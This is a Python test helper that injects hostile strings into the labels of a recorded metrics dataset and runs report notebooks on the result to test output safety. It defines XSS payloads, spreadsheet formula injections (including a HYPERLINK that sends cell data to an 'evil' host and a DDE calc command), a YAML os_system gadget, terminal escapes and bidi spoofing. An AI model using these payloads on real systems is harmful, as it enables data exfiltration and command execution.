"""A real recording whose workloads were named by somebody who means harm."""

from __future__ import annotations

import re
from pathlib import Path
from types import MappingProxyType
from typing import Final

from stored import Stored, read_folder, write_folder

from meshlab.core.series import SeriesSet
from meshlab.reports.run.runner import Outcome, run

__all__ = ["FORBIDDEN", "REPORTS", "hostile", "hostile_copy", "hostile_report"]

ROOT: Final = Path(__file__).parents[2]

SCRIPT: Final = "<script>alert(1)</script>"
IMAGE: Final = '"><img src=x onerror=alert(1)>'
STYLE: Final = "'</style></title></pre></code></td><svg/onload=alert(1)>"
MATHS: Final = r"$\frac{$x_{\undefined$"
YAML: Final = "\n- !!python/object/apply:os_system [id]: &a *a {x: [y # "
MARKDOWN: Final = "](javascript:alert(1))[x](http://evil/y)`**_# ~~<http://evil>"
TERMINAL: Final = "\x1b]0;owned\x07\x1b[2J\x1b[31m\r\x9b5n\u2028"
BIDI: Final = "\u202egnp-exe\u2066"
TEMPLATE: Final = "{{ 7*7 }}{% raw %}%(x)s ${x} {0} \\u0041"

_BEFORE: Final = MappingProxyType(
    {
        "ingress": '=HYPERLINK("http://evil/?"&A1)',
        "cart": "+cmd|' /C calc'!A0",
        "storefront": "@SUM(1)*",
        "inventory": "-1+1;",
        "v2": "\t=1+1",
    }
)
_AFTER: Final = MappingProxyType(
    {
        "catalog": IMAGE + MATHS + MARKDOWN + TERMINAL,
        "storefront": SCRIPT,
        "ingress": MATHS,
        "cart": MARKDOWN,
        "checkout": STYLE,
        "payments": IMAGE,
        "ledger": YAML,
        "inventory": TEMPLATE,
        "batch": TERMINAL,
        "shop": BIDI,
        "east": SCRIPT + "|x|",
        "west": YAML,
        "Kubernetes": IMAGE,
        "v1": MATHS,
        "v2": SCRIPT,
        "rule": STYLE,
        "concurrency": MARKDOWN,
    }
)
_NAMES: Final = re.compile(rf"(?<![A-Za-z0-9])({'|'.join(_AFTER)})(?![A-Za-z0-9])")

FORBIDDEN: Final = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]")
"""What no text may hold that a terminal or a reader gets; lines may end."""


def hostile(text: str) -> str:
    """A label's value with the names in it spelt as an attacker would; wherever a name stands, alike."""
    return _NAMES.sub(lambda found: f"{_BEFORE.get(found[1], '')}{found[1]}{_AFTER[found[1]]}", text)


def hostile_copy(name: str, place: Path) -> Path:
    """Write a shipped recording again below a folder, with hostile names in all labels but those that hold none."""
    target = place / "data" / name
    if target.is_dir():
        return target
    stored = read_folder(ROOT / "data" / name)
    labels = stored.series.labels.copy()
    for column in labels.columns.drop(["__name__", "le"]):
        labels[column] = labels[column].map(hostile).astype("str")
    found = stored.series
    again = SeriesSet(labels, found.sid, found.time, found.value, found.query)
    target.parent.mkdir(exist_ok=True)
    write_folder(target, Stored(again, stored.manifest))
    return target


REPORTS: Final = MappingProxyType(
    {
        "canary-verdict": ("canary-regression", {"service": "catalog", "baseline": "v1", "canary": "v2"}),
        "retry-storm": ("retry-storm", {}),
        "scaling-behaviour": ("scale-out", {"service": "catalog"}),
        "security-posture": ("mtls-migration", {}),
    }
)
"""The notebooks, and what they are asked when nothing is said."""


def hostile_report(name: str, place: Path) -> Outcome:
    """Run a notebook on its own recording, with hostile names."""
    source, given = REPORTS[name]
    hostile_copy(source, place)
    parameters = {"source": source, **{key: hostile(value) for key, value in given.items()}}
    return run(ROOT / "notebooks" / f"{name}.ipynb", parameters=parameters, out=place / "out" / name, cwd=place)
